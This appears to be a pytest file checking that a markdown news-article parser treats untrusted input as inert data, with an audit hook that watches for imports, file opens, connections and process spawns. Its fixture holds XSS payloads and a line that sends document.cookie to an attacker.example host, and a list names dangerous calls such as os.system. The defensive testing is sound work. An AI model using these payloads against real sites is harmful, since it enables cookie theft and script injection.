"""Untrusted input is data: no HTML comes out, no link runs, nothing a dump names is run."""

from __future__ import annotations

import sys
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from newsdump import Paragraph, Quote, dumps, loads, to_dict

HOSTILE = (
    "\n\n# Ferry <script>alert(1)</script> Timetable\n\n"
    "By [Ann Lee](javascript:alert(1)) and [Omar Sato](https://example.org/staff/os)\n\n"
    "May 2, 2024\n\n"
    "Read the [schedule](javascript:alert(document.cookie)) or "
    '<a href="javascript:alert(2)">this</a>.\n\n'
    "<script>fetch('https://attacker.example/'+document.cookie)</script>\n\n"
    "- [one](vbscript:msgbox) <img src=x onerror=alert(3)>\n\n"
    "> quirk: antigravity\n> plugin: os.system('touch /tmp/x')\n\n"
    "[ref]: javascript:alert(4)\n\nSee [the ref][ref].\n\n"
    "**Related article: [Next](javascript:alert(5))**\n\n"
    "Original url:\n\n<javascript:alert(6)>"
)
# What the process does that parsing a dump must never cause.
WATCHED = (
    "import",
    "exec",
    "compile",
    "open",
    "subprocess.Popen",
    "os.system",
    "os.exec",
    "os.posix_spawn",
    "os.spawn",
    "socket.connect",
    "socket.getaddrinfo",
    "urllib.Request",
    "pickle.find_class",
    "ctypes.dlopen",
)


class _Recorder:
    """One audit hook for the session (hooks cannot be removed), recording when asked."""

    def __init__(self) -> None:
        self.events: list[tuple[str, tuple[Any, ...]]] | None = None
        sys.addaudithook(self)

    def __call__(self, event: str, args: tuple[Any, ...]) -> None:
        if self.events is not None and event.startswith(WATCHED):
            self.events.append((event, args))

    @contextmanager
    def recording(self) -> Iterator[list[tuple[str, tuple[Any, ...]]]]:
        events: list[tuple[str, tuple[Any, ...]]] = []
        self.events = events
        try:
            yield events
        finally:
            self.events = None


_RECORDER = _Recorder()


def _read_everything(text: str) -> object:
    article = loads(text)
    return (
        article.text,
        article.headline_text,
        [(b.text, b.links) for b in article.body],
        article.related,
        article.site,
        to_dict(article),
        dumps(article),
        dumps(article, canonical=True),
    )


def test_the_recorder_sees_what_it_watches() -> None:
    """The audit hook does record an import and a file being opened (a control)."""
    with _RECORDER.recording() as events:
        with open(__file__, "rb"):
            pass
        import colorsys  # noqa: F401  (any module not yet imported)
    assert {event for event, _ in events} >= {"open", "import"}


def test_a_hostile_dump_imports_opens_and_runs_nothing() -> None:
    """Reading every field of a hostile dump imports, opens, connects and runs nothing."""
    _read_everything(HOSTILE.replace("javascript:", "https:"))  # warm the lazy imports
    with _RECORDER.recording() as events:
        _read_everything(HOSTILE)
    assert events == []
    assert "antigravity" not in sys.modules


@pytest.mark.parametrize(
    "markdown",
    [
        "[click](javascript:alert(1))",
        "[click](JavaScript:alert(1))",
        "[click](vbscript:msgbox)",
        "[click](data:text/html,<script>alert(1)</script>)",
        "[click](&#106;avascript:alert(1))",
        "<javascript:alert(1)>",
    ],
)
def test_script_links_are_not_links(markdown: str) -> None:
    """markdown-it-py's link validation: script and data targets are never in Block.links."""
    block = Paragraph(markdown)
    assert block.links == ()
    assert "click" in block.text or "javascript" in block.text  # kept as text, not dropped


@pytest.mark.parametrize(
    "markdown",
    [
        "Hi <script>alert(1)</script> there",
        'Hi <a href="javascript:alert(1)">there</a>',
        "Hi <img src=x onerror=alert(1)> there",
    ],
)
def test_inline_html_is_markup_not_text(markdown: str) -> None:
    """Plain text holds no tag: inline HTML shows nothing, the words between tags stay."""
    text = Paragraph(markdown).text
    assert "<" not in text
    assert ">" not in text
    assert text.startswith("Hi ")


def test_html_block_text_has_no_tags() -> None:
    """A quoted HTML block's plain text has no tags either."""
    assert "<" not in Quote("> <script>alert(1)</script>").text


def test_urls_are_returned_as_data_only() -> None:
    """A javascript: URL in the trailer or a link is a string in the model, nothing more."""
    article = loads(HOSTILE)
    assert article.url == "javascript:alert(6)"
    assert article.site is None
    assert all(
        not (link.url or "").lower().startswith(("javascript:", "vbscript:"))
        for block in article.body
        for link in block.links
    )
    assert dumps(article) == HOSTILE


def test_a_callout_to_a_script_has_no_url() -> None:
    """A related-article callout whose target is a script has no URL; its text is kept."""
    article = loads(HOSTILE.replace("javascript:alert(5)", "javascript:void"))
    (link,) = article.related
    assert link.url is None
    assert "Next" in link.text
